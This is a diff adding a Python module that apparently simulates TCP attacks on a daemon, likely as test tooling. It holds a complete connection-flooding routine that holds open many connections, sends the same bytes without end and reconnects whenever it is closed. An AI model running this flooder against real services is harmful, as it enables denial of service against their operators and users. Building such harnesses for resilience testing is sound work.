@@ -1,0 +1,59 @@
+"""What attacks over TCP share: many connections that send the same bytes again and again."""
+
+import os
+import selectors
+import socket
+import time
+from contextlib import suppress
+
+_PAUSE_SECONDS = 0.05  # before a connection that was closed or refused is opened again
+
+
+class Flooder:
+    """One connection that says hello, waits for the answer, and then sends `flood` without end."""
+
+    def __init__(self, address: tuple[str, int], hello: bytes, flood: bytes) -> None:
+        self.socket = socket.create_connection(address, timeout=10)
+        self.socket.sendall(hello)
+        self.socket.recv(65_536)
+        self.socket.setblocking(False)
+        self._flood = flood
+        self._rest = memoryview(flood)
+
+    def send(self) -> None:
+        """Send what the operating system takes. Raises OSError when the daemon has closed the connection."""
+        self._rest = self._rest[self.socket.send(self._rest) :] or memoryview(self._flood)
+
+    def read(self) -> None:
+        """Raises OSError when the daemon has closed the connection."""
+        if not self.socket.recv(65_536):
+            raise ConnectionResetError
+
+
+def flood(address: tuple[str, int], hellos: list[bytes], data: bytes) -> None:
+    """Flood from one connection for each hello; a connection that is closed is opened again. Never returns."""
+    os.nice(10)  # an attacker is not on the daemon's machine, and takes no processor from it
+    chosen = selectors.DefaultSelector()
+    again: list[tuple[float, bytes]] = [(0.0, hello) for hello in hellos]
+    while True:
+        while again and again[0][0] <= time.monotonic():
+            _, hello = again.pop(0)
+            try:
+                flooder = Flooder(address, hello, data)
+                chosen.register(flooder.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, (flooder, hello))
+            except OSError:
+                again.append((time.monotonic() + _PAUSE_SECONDS, hello))
+        for key, events in chosen.select(_PAUSE_SECONDS):
+            flooder, hello = key.data
+            try:
+                if events & selectors.EVENT_READ:
+                    flooder.read()
+                if events & selectors.EVENT_WRITE:
+                    flooder.send()
+            except BlockingIOError:
+                pass
+            except OSError:
+                chosen.unregister(flooder.socket)
+                with suppress(OSError):
+                    flooder.socket.close()
+                again.append((time.monotonic() + _PAUSE_SECONDS, hello))
